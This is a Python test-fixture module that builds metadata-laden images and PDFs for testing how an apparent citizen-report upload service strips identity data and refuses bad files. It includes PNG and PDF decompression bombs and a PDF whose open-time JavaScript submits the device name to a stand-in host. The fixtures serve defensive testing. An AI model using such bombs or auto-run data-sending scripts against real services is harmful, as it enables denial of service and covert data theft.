"""Files for upload tests, made in memory."""

from __future__ import annotations

import io
import re
import struct
import zlib
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter

GPS_IFD = 0x8825


def files_in(root: Path) -> list[Path]:
    """Every file below ``root``: what a refused submission must not leave behind."""
    return [p for p in root.rglob("*") if p.is_file()]


def jpeg_with_gps(size: tuple[int, int] = (64, 48)) -> bytes:
    """A JPEG whose EXIF carries a GPS position (as a phone camera writes it)."""
    image = Image.new("RGB", size, (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[GPS_IFD] = {
        1: "S",
        2: (0.0, 30.0, 12.5),
        3: "E",
        4: (117.0, 9.0, 1.0),
    }
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif)
    return out.getvalue()


def png(size: tuple[int, int] = (32, 32)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (0, 120, 200)).save(out, format="PNG")
    return out.getvalue()


def pdf(*, author: str = "", password: str = "") -> bytes:
    """A one-page PDF, with an author in its metadata when given, encrypted with a password."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if author:
        writer.add_metadata({"/Author": author, "/Creator": f"{author}'s laptop"})
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny PNG whose header claims a bitmap of width x height pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def exif_gps(content: bytes) -> dict[int, object]:
    with Image.open(io.BytesIO(content)) as image:
        return dict(image.getexif().get_ifd(GPS_IFD))


# --- a corpus of files shaped like the ones citizens really send -------------------------------
# Each carries the reporter's identity where the software that made it would put it. The
# sentinels are what must not survive cleaning, in any encoding.

NAME = "Siti Aminah"
EMAIL = "siti.aminah@example.id"
PHONE = "0812-3456-7890"
DEVICE = "SM-A155F-Siti"
COMMENT = "catatan rahasia pelapor"
SENTINELS = (NAME, EMAIL, PHONE, DEVICE, COMMENT)
VISIBLE_TEXT = "Jalan berlubang di depan SD Negeri 7"

_XMP = f"""<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/">
 <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
  <rdf:Description rdf:about=""
    xmlns:dc="http://purl.org/dc/elements/1.1/"
    xmlns:xmp="http://ns.adobe.com/xap/1.0/"
    xmlns:pdf="http://ns.adobe.com/pdf/1.3/"
    xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/">
   <dc:creator><rdf:Seq><rdf:li>{NAME}</rdf:li></rdf:Seq></dc:creator>
   <dc:rights><rdf:Alt><rdf:li xml:lang="x-default">{EMAIL}</rdf:li></rdf:Alt></dc:rights>
   <xmp:CreatorTool>LibreOffice 7.6 on {DEVICE}</xmp:CreatorTool>
   <pdf:Producer>LibreOffice 7.6</pdf:Producer>
   <photoshop:AuthorsPosition>{PHONE}</photoshop:AuthorsPosition>
  </rdf:Description>
 </rdf:RDF>
</x:xmpmeta>
<?xpacket end="w"?>""".encode()


def _zlib_payloads(content: bytes) -> list[bytes]:
    """Everything that inflates from a zlib stream somewhere in ``content`` (PDF streams, PNG
    zTXt and iTXt chunks), so that a sentinel cannot hide behind compression."""
    found = []
    for start in range(len(content) - 1):
        if content[start] != 0x78 or content[start + 1] not in (0x01, 0x5E, 0x9C, 0xDA):
            continue
        try:
            found.append(zlib.decompressobj().decompress(content[start:], 10_000_000))
        except zlib.error:
            continue
    return found


def _pdf_strings(content: bytes) -> list[bytes]:
    """``content`` with PDF string escapes undone (``\\100`` is ``@``) and its hex strings."""
    unescaped = re.sub(rb"\\([0-7]{1,3})", lambda m: bytes([int(m.group(1), 8) & 0xFF]), content)
    hexes = [
        bytes.fromhex(m.group(1).decode())
        for m in re.finditer(rb"<([0-9A-Fa-f]{2,})>", content)
        if len(m.group(1)) % 2 == 0
    ]
    return [unescaped, *hexes]


def sentinels_in(content: bytes) -> set[str]:
    """The sentinels that ``content`` carries: as UTF-8, UTF-16 (either order), compressed or
    as PDF strings."""
    views = [
        view
        for inflated in (content, *_zlib_payloads(content))
        for view in (inflated, *_pdf_strings(inflated))
    ]
    return {
        sentinel
        for sentinel in SENTINELS
        for view in views
        for encoded in (
            sentinel.encode(),
            sentinel.encode("utf-16-be"),
            sentinel.encode("utf-16-le"),
        )
        if encoded in view
    }


def _icc_profile() -> bytes:
    """An sRGB profile whose copyright names its owner, as a calibration tool writes it."""
    from PIL import ImageCms

    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    old = "No copyright, use freely"
    new = f"{NAME} kalibrasi".ljust(len(old))
    assert old.encode("utf-16-be") in profile
    return profile.replace(old.encode("utf-16-be"), new.encode("utf-16-be"))


def _camera_exif() -> Image.Exif:
    """EXIF as a phone camera writes it: maker, model, owner, serial, maker note, GPS."""
    exif = Image.Exif()
    exif[0x010F] = "samsung"  # Make
    exif[0x0110] = DEVICE  # Model
    exif[0x013B] = NAME  # Artist
    exif[0x8298] = EMAIL  # Copyright
    exif[0x010E] = COMMENT  # ImageDescription
    exif[0x0131] = "A155FXXU1AXB1"  # Software
    exif[0x8769] = {
        0xA430: NAME,  # CameraOwnerName
        0xA431: PHONE,  # BodySerialNumber
        0x927C: b"SAMSUNG\x00" + DEVICE.encode() + b"\x00" + PHONE.encode(),  # MakerNote
        0x9286: b"ASCII\x00\x00\x00" + COMMENT.encode(),  # UserComment
    }
    exif[GPS_IFD] = {1: "S", 2: (0.0, 30.0, 12.5), 3: "E", 4: (117.0, 9.0, 1.0)}
    return exif


def _scene(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """A picture with some structure (a gradient and a block), not a flat colour."""
    image = Image.linear_gradient("L").resize(size).convert(mode)
    image.paste(
        (180, 40, 40) if mode != "L" else 90,
        (size[0] // 4, size[1] // 4, size[0] // 2, size[1] // 2),
    )
    return image


def phone_jpeg(size: tuple[int, int] = (160, 120)) -> bytes:
    """A phone photo: EXIF with maker note, owner and GPS, XMP, an ICC profile and a comment."""
    out = io.BytesIO()
    _scene(size).save(
        out,
        format="JPEG",
        quality=90,
        exif=_camera_exif(),
        xmp=_XMP,
        icc_profile=_icc_profile(),
        comment=f"{COMMENT} {PHONE}".encode(),
    )
    return out.getvalue()


def png_with_text(size: tuple[int, int] = (120, 90)) -> bytes:
    """A screenshot as editors save it: text chunks (plain, compressed, international), EXIF,
    XMP and a profile."""
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", NAME)
    info.add_text("Comment", f"{COMMENT} {PHONE}", zip=True)
    info.add_itxt("Description", f"{EMAIL} {DEVICE}", lang="id", tkey="Keterangan", zip=True)
    info.add_itxt("XML:com.adobe.xmp", _XMP.decode())
    out = io.BytesIO()
    _scene(size, "RGBA").save(
        out, format="PNG", pnginfo=info, exif=_camera_exif(), icc_profile=_icc_profile()
    )
    return out.getvalue()


def webp_with_metadata(size: tuple[int, int] = (120, 90)) -> bytes:
    """A WebP as messaging apps pass photos on: EXIF, XMP and an ICC profile."""
    out = io.BytesIO()
    _scene(size).save(out, format="WEBP", exif=_camera_exif(), xmp=_XMP, icc_profile=_icc_profile())
    return out.getvalue()


def phone_heic(size: tuple[int, int] = (160, 120)) -> bytes:
    """A HEIC photo as iPhones take them: EXIF with GPS and owner, and XMP."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    _scene(size).save(out, format="HEIF", exif=_camera_exif().tobytes(), xmp=_XMP, quality=80)
    return out.getvalue()


def _written_pdf() -> bytes:
    """A one-page letter as a word processor exports it: visible text and a document
    information dictionary naming its author."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    letter = canvas.Canvas(out, pagesize=A4, invariant=True)
    letter.setAuthor(NAME)
    letter.setCreator(f"Writer on {DEVICE}")
    letter.setSubject(COMMENT)
    letter.setKeywords([EMAIL, PHONE])
    letter.setFont("Helvetica", 14)
    letter.drawString(72, 760, VISIBLE_TEXT)
    letter.showPage()
    letter.save()
    return out.getvalue()


def _metadata_stream(writer: PdfWriter) -> object:
    from pypdf.generic import NameObject, StreamObject

    stream = StreamObject()
    stream.set_data(_XMP)
    stream[NameObject("/Type")] = NameObject("/Metadata")
    stream[NameObject("/Subtype")] = NameObject("/XML")
    return writer._add_object(stream)


def word_processor_pdf() -> bytes:
    """A letter with the author in its information dictionary and in XMP, for the document and
    for its page, and the application's private data (/PieceInfo) on the page."""
    from pypdf import PdfReader
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_written_pdf())))
    writer._root_object[NameObject("/Metadata")] = _metadata_stream(writer)
    page = writer.pages[0]
    page[NameObject("/Metadata")] = _metadata_stream(writer)
    page[NameObject("/PieceInfo")] = DictionaryObject(
        {
            NameObject("/Illustrator"): DictionaryObject(
                {NameObject("/Private"): TextStringObject(f"{NAME} {DEVICE}")}
            )
        }
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def annotated_pdf() -> bytes:
    """A letter with a sticky note (its author and text), a highlight and a mailto link."""
    from pypdf import PdfReader
    from pypdf.annotations import Highlight, Link, Text
    from pypdf.generic import ArrayObject, FloatObject, NameObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_written_pdf())))
    note = Text(rect=(400, 700, 420, 720), text=f"{COMMENT}: hubungi {PHONE}", open=True)
    note[NameObject("/T")] = TextStringObject(NAME)
    writer.add_annotation(0, note)
    quad = ArrayObject([FloatObject(v) for v in (72, 775, 400, 775, 72, 755, 400, 755)])
    highlight = Highlight(rect=(72, 755, 400, 775), quad_points=quad)
    highlight[NameObject("/T")] = TextStringObject(NAME)
    writer.add_annotation(0, highlight)
    link = Link(rect=(72, 700, 300, 720), url=f"mailto:{EMAIL}")
    writer.add_annotation(0, link)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def form_pdf() -> bytes:
    """A filled-in form: a text field whose value is the reporter's name and phone."""
    from pypdf import PdfReader
    from pypdf.generic import (
        ArrayObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        NumberObject,
        TextStringObject,
    )

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_written_pdf())))
    field = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("nama_pelapor"),
            NameObject("/V"): TextStringObject(f"{NAME} {PHONE}"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 600, 400, 620)]),
            NameObject("/F"): NumberObject(4),
            NameObject("/DA"): TextStringObject("/Helv 12 Tf 0 g"),
        }
    )
    reference = writer._add_object(field)
    page = writer.pages[0]
    field[NameObject("/P")] = page.indirect_reference
    page[NameObject("/Annots")] = ArrayObject([reference])
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([reference])}
    )
    writer.set_need_appearances_writer(True)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_attachment_and_script() -> bytes:
    """A letter that carries a file of its own and JavaScript run when it opens."""
    from pypdf import PdfReader
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_written_pdf())))
    writer.add_attachment(
        "kontak.vcf", f"BEGIN:VCARD\nFN:{NAME}\nTEL:{PHONE}\nEND:VCARD\n".encode()
    )
    script = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(
                f"app.alert('{EMAIL}'); this.submitForm('https://example.id/?d={DEVICE}');"
            ),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_bomb(inflated_mb: int = 600) -> bytes:
    """A small PDF whose page content inflates to ``inflated_mb`` megabytes."""
    squeeze = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    body = b"".join(squeeze.compress(chunk) for _ in range(inflated_mb)) + squeeze.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


# name -> (file name, builder): every kind of file a citizen may attach, with identity inside.
CORPUS = {
    "phone JPEG": ("IMG_20261201_083012.jpg", phone_jpeg),
    "PNG with text chunks": ("Screenshot_20261201.png", png_with_text),
    "WebP with metadata": ("IMG-20261201-WA0007.webp", webp_with_metadata),
    "HEIC from a phone": ("IMG_4821.HEIC", phone_heic),
    "word-processor PDF with XMP": ("surat_pengaduan.pdf", word_processor_pdf),
    "annotated PDF": ("surat_dengan_catatan.pdf", annotated_pdf),
    "form PDF": ("formulir.pdf", form_pdf),
    "PDF with attachment and JavaScript": ("lampiran.pdf", pdf_with_attachment_and_script),
}
